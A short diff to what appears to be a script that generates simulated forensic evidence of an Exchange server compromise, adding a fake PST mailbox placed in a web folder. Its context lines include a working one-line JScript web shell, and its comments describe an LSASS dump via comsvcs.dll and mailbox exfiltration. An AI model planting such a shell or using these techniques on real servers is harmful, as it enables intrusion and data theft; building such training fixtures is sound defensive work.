@@ -133,6 +133,13 @@ def compromised_only():
         + b'<script language="JScript" runat="server">function Page_Load(){eval(Request["errorEE"],"unsafe");}</script>'
         + bytes(128),
     )
+    # carol's mailbox exported into a web folder through the SSRF's ECP session (ECP server log,
+    # 2021-03-03 02:57) and fetched from there by 203.0.113.77 (W3SVC1, 2021-03-03 05:31).
+    pst = fake_pst("carol: Inbox")
+    write(
+        os.path.join(EX01, "inetpub", "wwwroot", "aspnet_client", "system_web", "carol.pst"),
+        pst + bytes(range(256)) * ((98304 - len(pst)) // 256) + bytes((98304 - len(pst)) % 256),
+    )
     # LSASS dump made with comsvcs.dll MiniDump (Sysmon #16, 2021-03-03 03:05).
     write(
         os.path.join(EX01, "Windows", "Temp", "lsass.dmp"),
